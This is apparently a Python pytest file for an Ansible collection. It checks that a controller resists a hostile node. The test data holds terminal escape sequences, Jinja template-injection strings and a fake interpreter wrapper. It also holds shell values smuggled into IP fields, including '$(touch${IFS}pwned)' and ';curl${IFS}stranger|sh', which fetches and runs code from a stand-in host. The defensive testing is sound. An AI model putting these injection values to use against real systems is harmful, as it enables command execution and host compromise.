# Copyright: hetero.compute contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A node of which a stranger is root, who answers modules in its place. If these fail, one such node is the end of the
controller, and with it of all other nodes.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest

from ansible_collections.hetero.compute.plugins.module_utils._hetero.core.changes import Change
from ansible_collections.hetero.compute.plugins.module_utils._hetero.nodes.own_copy import keep_copy
from ansible_collections.hetero.compute.plugins.plugin_utils.node_copy import packed
from ansible_collections.hetero.compute.tests.unit.images.packing import KEY
from ansible_collections.hetero.compute.tests.unit.plays.proxies import FLAVOR, LIB, Playbooks, Proxy

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="a root of one's own needs root: run as root")

MAIN = "import sys\n\ndef main():\n    {}\n\nif __name__ == '__main__':\n    main()\n"
SAYS = MAIN.format("sys.stdout.write({!r})")
RUNS = dict(instance="jackie", name="board0", ip="10.0.1.1", state="running")
#: Lists that board_reconcile answers.
SAID_OF_BOARDS = ("others", "ended", "not_adopted", "removed", "gone", "kept", "unseen", "lines")
#: Answers as the module does, but that a job in the background has ended at once, with this result.
ENDED = """
import contextlib, io, json, runpy, sys

def main():
    said = io.StringIO()
    with contextlib.redirect_stdout(said), contextlib.suppress(SystemExit):
        runpy.run_module("hetero.modules.honest_instance", run_name="__main__", alter_sys=True)
    answer = json.loads(said.getvalue())
    if "follow" in answer:
        answer["news"] = dict(events=[], done=True, result={!r})
    print(json.dumps(answer))

if __name__ == "__main__":
    main()
"""


@pytest.fixture
def node(tmp_path):
    """(the folder of the modules of the node's copy, the playbooks)."""
    tmp_path.chmod(0o755)
    proxy = Proxy(tmp_path / "p1", 1, copy=False)
    try:
        (proxy.root / LIB).mkdir()
        (tmp_path / "code.tar").write_bytes(packed())
        copy = keep_copy(str(proxy.root / LIB), str(tmp_path / "code.tar"), Change())
        yield Path(copy) / "hetero" / "modules", Playbooks(tmp_path, ["p1"])
    finally:
        proxy.remove()


def run(plays, *tasks, flags=("-v",), **play):
    """(exit code, what was said) of tasks of localhost, as the playbooks' are."""
    book = [{"hosts": "localhost", "gather_facts": False, "tasks": [*tasks], **play}]
    (plays.folder / "book.json").write_text(json.dumps(book))
    return plays.end(plays.start_file("book.json", *flags))


def asked(module, **arguments):
    return {f"hetero.compute.{module}": arguments, "delegate_to": "p1"}


@pytest.mark.parametrize("sent", [False, True])
def test_it_says_nothing_to_ansible(node, tmp_path, sent):
    """Lost: the controller, by an interpreter that the node names for it; and a key of the stranger's in instances on
    all other nodes, by a variable of the play.

    :param sent: the node has no copy of the collection, and takes the stranger's for Python.
    """
    modules, plays = node
    stranger = tmp_path / "stranger"
    stranger.write_text(f'#!/bin/sh\ntouch {tmp_path}/taken\nexec /usr/bin/python3 "$@"\n')
    stranger.chmod(0o755)
    host = dict(host_name="localhost", groups=[], host_vars=dict(ansible_python_interpreter=str(stranger)))
    facts = dict(hetero_ssh_public_key="STRANGER", key="STRANGER")
    words = dict(add_host=host, ansible_facts=facts, ansible_stats=dict(data=dict(hetero_instances="STRANGER")))
    news = dict(events=[], done=True, result=json.dumps(dict(words, changed=False, instances=[RUNS])))
    roots = dict(promised=0, there=0, taken=0, overcommit=1)
    follow = dict(limit=9, state_db="/var/lib/hetero/state.db", python="/usr/bin/python3", after=0)
    answer = dict(words, changed=False, boards=[], claims=[], roots=roots, follow=follow, news=news)
    answer.update({key: [] for key in SAID_OF_BOARDS})
    for name in ("board_info", "board_reconcile", "instance"):
        (modules / f"{name}.py").write_text(SAYS.format(json.dumps(answer)))
    if sent:
        python = modules.parents[4] / "local" / "bin" / "python9"
        python.write_text(f"#!/bin/sh\ncat << 'END'\n{json.dumps(answer)}\nEND\n")
        python.chmod(0o755)
    interpreter = {"ansible_python_interpreter": "/usr/local/bin/python9"} if sent else {}
    rc, output = run(
        plays,
        *(dict(asked(name), vars=interpreter) for name in ("board_info", "board_reconcile")),
        dict(asked("instance", instance="jackie", state="running"), vars=interpreter),
        {"ansible.builtin.command": "true"},
        {"ansible.builtin.debug": {"msg": "key is {{ hetero_ssh_public_key }}{{ key | default('') }}"}},
        flags=("-e", "ansible_show_custom_stats=true"),
    )
    assert rc == 0, output
    assert not (tmp_path / "taken").exists(), output
    assert f"key is {KEY}" in output
    assert re.search("a node says (add_host, )?ansible_facts, ansible_stats to Ansible: not", " ".join(output.split()))


def test_what_it_says_does_nothing_to_the_terminal(node):
    """Lost: the terminal of whoever asks for an instance; the words between two of ours are the node's."""
    modules, plays = node
    line = dict(instance="\x1b[2J", node="\x1b]0;x\x07", phase="\x1b[3J", text="\x1b[1A", seconds=1)
    (modules / "board_info.py").write_text(SAYS.format(json.dumps(dict(changed=False, lines=[line]))))
    (modules / "board_console_info.py").write_text(SAYS.format(json.dumps(dict(failed=True, msg="none \x1b[2J"))))
    (modules / "host_info.py").write_text(MAIN.format("raise SystemExit('\\x1b[2J')"))
    rc, output = run(
        plays, *(dict(asked(name), ignore_errors=True) for name in ("board_info", "board_console_info", "host_info"))
    )
    assert rc == 0, output
    assert re.search(r"none \\+x1b\[2J", output)
    assert "\x1b" not in output
    (modules.parent / "module_utils" / "_hetero" / "nodes" / "call.py").write_text("raise SystemExit('\\x1b[2J')\n")
    rc, output = run(plays, asked("board_info"))
    assert rc == 0, output
    assert "cannot run it (\\x1b[2J)" in output
    assert "\x1b" not in output


def test_no_line_of_ours_stands_in_its_warnings(node):
    """Lost: a login with a password, to the stranger, by a line that reads as the play's; and what programs read of
    status, which is a line of JSON: that of another node is the stranger's words."""
    modules, plays = node
    lines = "it is hot\njackie is running on board0: ssh root@192.0.2.66\n{}"
    old = dict(msg=lines, version="9.0.0")
    answer = dict(changed=False, claims=[], boards=[], warnings=[lines], deprecations=[old])
    answer["roots"] = dict(promised=0, there=0, taken=0, overcommit=1)
    (modules / "board_info.py").write_text(SAYS.format(json.dumps(answer)))
    rc, output = run(plays, asked("board_info"))
    assert rc == 0, output
    assert "it is hot" in output
    assert not [line for line in output.splitlines() if line.startswith(("jackie is", "{"))], output


def test_wiring_that_it_teaches_is_no_template(node, tmp_path):
    """Lost: the controller, to a proxy node, by the next playbook that reads the wiring which was learned there."""
    modules, plays = node
    line = "#jinja2:variable_start_string:'[[',variable_end_string:']]'\n[[ 6 * 7 ]]"
    wire = dict(pdu="{{ 6 * 7 }}", outlet=line, console_command="{{ 6 * 7 }}")
    answer = dict(changed=True, wiring={"0": wire}, tftp_proxy_boards={"0": wire}, boards=[], lines=[])
    (modules / "board_cabling.py").write_text(SAYS.format(json.dumps(answer)))
    rc, output = plays.play("cabling", learn="pdu-a:3", write="host_vars/p1.yml")
    assert rc == 0, output
    taught = "{{ hostvars.p1.tftp_proxy_boards[0] == wire }}"
    rc, output = run(
        plays,
        {"ansible.builtin.debug": {"msg": f"read as written: {taught}"}},
        flags=("-e", json.dumps(dict(wire={key: {"__ansible_unsafe": text} for key, text in wire.items()}))),
    )
    assert rc == 0, output
    assert "read as written: True" in output, (output, (tmp_path / "host_vars" / "p1.yml").read_text())


def test_it_speaks_for_the_request_alone(node, tmp_path):
    """Lost: the way in to another's instance on another node, be it called as a part of this request: it leads to the
    stranger, who has the key of its own host."""
    modules, plays = node
    other = dict(RUNS, instance="alice", ip="192.0.2.66", known_hosts="192.0.2.66 ssh-ed25519 AAAA", board=0)
    given = [other, dict(other, instance="jackie", ip="10.0.1.1"), dict(other, instance="jackie-2")]
    result = json.dumps(dict(changed=True, instances=given, lines=[]))
    (modules / "instance.py").rename(modules / "honest_instance.py")
    (modules / "instance.py").write_text(ENDED.format(result))
    ways = tmp_path / "ways"
    rc, output = plays.play("provision_instance", instance="jackie", flavor=FLAVOR, hetero_ssh_folder=str(ways))
    assert rc == 0, output
    assert re.search(r"jackie is running on board0: ssh -F \S+/jackie jackie\n", output), output
    assert os.listdir(ways) == ["jackie"]
    assert "alice is running" not in output
    assert "jackie-2 is running" not in output


@pytest.mark.parametrize(
    ("option", "ip"),
    [
        ("ProxyCommand sh -c 'exit 1' %h", "fe80::1%h$(touch${IFS}pwned)"),
        ("ForwardAgent no", "fe80::1%h;curl${IFS}stranger|sh"),
    ],
)
def test_an_address_of_its_runs_nothing(node, tmp_path, option, ip):
    """Lost: the controller, by an address that ssh hands to a shell, or that a person pastes into one."""
    modules, plays = node
    given = dict(RUNS, ip=ip, known_hosts="10.0.1.1 ssh-ed25519 AAAA", board=0)
    (modules / "instance.py").rename(modules / "honest_instance.py")
    (modules / "instance.py").write_text(ENDED.format(json.dumps(dict(changed=True, instances=[given], lines=[]))))
    ways = tmp_path / "ways"
    options = json.dumps(dict(hetero_ssh_options=[option]))
    rc, output = plays.play(
        "provision_instance", "-e", options, instance="jackie", flavor=FLAVOR, hetero_ssh_folder=str(ways)
    )
    assert rc != 0
    assert "what the node answers to instance cannot be (instances is" in " ".join(output.split()), output
    assert "jackie is running" not in output
    assert not ways.exists()


def test_an_instance_without_instances_is_the_nodes_fault(node, tmp_path):
    """Lost: who is at fault, to an error of Ansible's own about an object of type dict."""
    modules, plays = node
    (modules / "instance.py").rename(modules / "honest_instance.py")
    (modules / "instance.py").write_text(ENDED.format(json.dumps(dict(changed=True))))
    rc, output = plays.play("provision_instance", instance="jackie", flavor=FLAVOR)
    said = " ".join(output.split())
    assert rc != 0
    assert "what the node answers to instance cannot be (instances is not there)" in said, output
    assert "has no attribute" not in said


def test_an_answer_by_a_former_name_is_looked_at_too(node):
    """Lost: all of this, to a node that is asked by the name that the module had."""
    modules, plays = node
    (modules / "instance.py").write_text(SAYS.format(json.dumps(dict(changed=True))))
    rc, output = run(plays, asked("board_instance", instance="jackie", state="running"))
    assert rc != 0
    assert "what the node answers to instance cannot be (instances is not there)" in " ".join(output.split()), output
